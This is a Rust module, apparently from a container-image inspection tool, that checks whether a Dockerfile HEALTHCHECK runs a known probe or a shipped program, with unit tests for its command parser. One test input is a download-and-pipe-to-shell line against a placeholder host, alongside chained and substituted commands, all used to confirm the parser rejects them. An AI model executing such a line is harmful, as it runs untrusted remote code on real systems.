//! What an image's health check starts beside the service (`HEALTHCHECK` of a Dockerfile; docker/image/spec v1.2, "Healthcheck").

use super::config::Config;
use super::started::{self, Behind};
use super::tree::Tree;
use assize_facts::Digest;

/// Programs that ask a service how it is, by their names.
const PROBES: &[&str] =
    &["wget", "curl", "nc", "true", "test", "[", "pgrep", "pidof", "grpc_health_probe", "grpc-health-probe"];

/// The command of a health check that starts neither a delivered program nor a known probe; `None` where nothing has to be said.
pub(crate) fn unknown(tree: &Tree, config: &Config, delivered: &[Digest]) -> Option<String> {
    let (how, words) = config.health_check.split_first()?;
    let words = match how.as_str() {
        "NONE" => return None,
        "CMD" => words.to_vec(),
        // The image's shell gets all of it.
        _ => match command(words.first().map_or("", String::as_str)) {
            Some(words) => words,
            None => return Some(words.join(" ")),
        },
    };
    let first = words.first()?;
    let is_probe = PROBES.contains(&first.rsplit('/').next().unwrap_or(first));
    let is_delivered = || matches!(started::behind(tree, config, &words, delivered), Some(Behind::Program(_)));
    (!is_probe && !is_delivered()).then(|| words.join(" "))
}

/// The words of a line that starts one program alone; what becomes of its output and of its failure changes nothing.
fn command(line: &str) -> Option<Vec<String>> {
    const BEHIND: &[&str] =
        &["|| exit 1", "|| exit 0", "|| false", "|| true", "2>&1", ">/dev/null", "> /dev/null", "&>/dev/null"];
    let mut line = line.trim();
    while let Some(rest) = BEHIND.iter().find_map(|behind| line.strip_suffix(behind)) {
        line = rest.trim_end();
    }
    if line.contains([';', '&', '|', '<', '>', '`', '\n', '\\']) || line.contains("$(") {
        return None;
    }
    let words = line.split_whitespace().map(|word| word.trim_matches(['"', '\'']).to_owned());
    Some(started::without_exec(words.collect()))
}

#[cfg(test)]
mod tests {
    use super::command;

    #[test]
    fn a_line_of_one_program_is_told_from_one_of_several() {
        for (line, words) in [
            ("curl -f http://localhost:8080/healthz || exit 1", Some("curl -f http://localhost:8080/healthz")),
            (
                "wget -qO- \"http://localhost:$PORT/healthz\" >/dev/null 2>&1 || exit 1",
                Some("wget -qO- http://localhost:$PORT/healthz"),
            ),
            ("exec /app/api -health", Some("/app/api -health")),
            ("", Some("")),
            ("curl -s http://x.example/a | sh", None),
            ("true; /opt/other &", None),
            ("test $(/opt/other)", None),
            ("curl x || /opt/other", None),
            ("curl x\n/opt/other", None),
        ] {
            assert_eq!(command(line).map(|words| words.join(" ")).as_deref(), words, "{line}");
        }
    }
}
